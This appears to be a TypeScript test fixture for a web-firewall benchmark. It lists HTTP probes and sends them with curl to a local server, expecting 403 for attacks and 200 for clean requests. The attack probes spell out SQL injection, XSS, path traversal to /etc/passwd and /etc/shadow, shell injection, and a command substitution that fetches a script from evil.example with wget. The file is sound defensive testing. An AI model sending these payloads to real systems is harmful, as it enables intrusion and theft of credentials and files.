import type { Executor } from '../../src/exec/exec.js';

/**
 * One fixed set of requests for every web firewall: attacks the OWASP CRS at paranoia 1 refuses
 * (SQL injection, XSS, path traversal, remote command execution, a scanner's user agent, in the
 * query, a form body and a header) and clean requests it must let through. The WAF benchmark sends
 * it to each engine and requires identical answers; the WAF tests require 403 for every attack
 * and 200 for every clean request.
 */
export interface WafProbe {
  name: string;
  kind: 'attack' | 'clean';
  /** Path and query as sent on the wire (already encoded). */
  path: string;
  method?: 'GET' | 'POST';
  /** application/x-www-form-urlencoded body (POST). */
  form?: string;
  headers?: string[];
}

export const WAF_PROBES: readonly WafProbe[] = [
  { name: 'SQLi in the query (tautology)', kind: 'attack', path: "/?id=1'%20OR%20'1'='1" },
  { name: 'SQLi in the query (UNION SELECT)', kind: 'attack', path: '/?q=1%20UNION%20SELECT%20username,password%20FROM%20users--' },
  { name: 'SQLi in a form body', kind: 'attack', path: '/login', method: 'POST', form: "user=admin'%20OR%201=1--&pass=x" },
  { name: 'XSS in the query (script tag)', kind: 'attack', path: '/?q=%3Cscript%3Ealert(1)%3C/script%3E' },
  { name: 'XSS in the query (event handler)', kind: 'attack', path: '/?q=%3Cimg%20src=x%20onerror=alert(1)%3E' },
  { name: 'XSS in a header (Referer)', kind: 'attack', path: '/', headers: ['Referer: <script>alert(document.cookie)</script>'] },
  { name: 'path traversal in the query', kind: 'attack', path: '/?file=../../../../etc/passwd' },
  { name: 'path traversal, encoded', kind: 'attack', path: '/?file=..%2f..%2f..%2fetc%2fshadow' },
  { name: 'RCE: shell command in the query', kind: 'attack', path: '/?cmd=;cat%20/etc/passwd' },
  { name: 'RCE: command substitution', kind: 'attack', path: '/?x=$(wget%20http://evil.example/x.sh)' },
  { name: 'scanner user agent (Nikto)', kind: 'attack', path: '/', headers: ['User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)'] },
  { name: 'scanner user agent (sqlmap)', kind: 'attack', path: '/', headers: ['User-Agent: sqlmap/1.7#stable (https://sqlmap.org)'] },
  { name: 'clean: the home page', kind: 'clean', path: '/' },
  { name: 'clean: a page with a query', kind: 'clean', path: '/index.html?page=2&sort=name' },
  { name: 'clean: a form post', kind: 'clean', path: '/contact', method: 'POST', form: 'name=Alice%20Smith&message=Hello%2C%20see%20you%20on%20Monday' },
  { name: 'clean: a browser', kind: 'clean', path: '/about', headers: ['User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0', 'Accept-Language: en-GB,en;q=0.8'] },
];

/** Sends every probe to `base` (e.g. http://127.0.0.1:80) with curl through `exec`; the status of each, by name ("000": no answer). */
export async function sendWafProbes(exec: Executor, base: string, host = 'www.kumo.example'): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  for (const p of WAF_PROBES) {
    const args = ['-s', '-g', '--path-as-is', '-o', '/dev/null', '-w', '%{http_code}', '--max-time', '10', '-H', `Host: ${host}`,
      ...(p.headers ?? []).flatMap((h) => ['-H', h]),
      ...(p.method === 'POST' ? ['-X', 'POST', '-H', 'Content-Type: application/x-www-form-urlencoded', '--data-raw', p.form ?? ''] : []),
      `${base}${p.path}`];
    const r = await exec.run('curl', args, { allowFailure: true });
    out.set(p.name, r.stdout.trim() || '000');
  }
  return out;
}

/** What an enforcing WAF must answer: 403 for each attack, 200 for each clean request. */
export const expectedBlocking = (): Map<string, string> => new Map(WAF_PROBES.map((p) => [p.name, p.kind === 'attack' ? '403' : '200']));
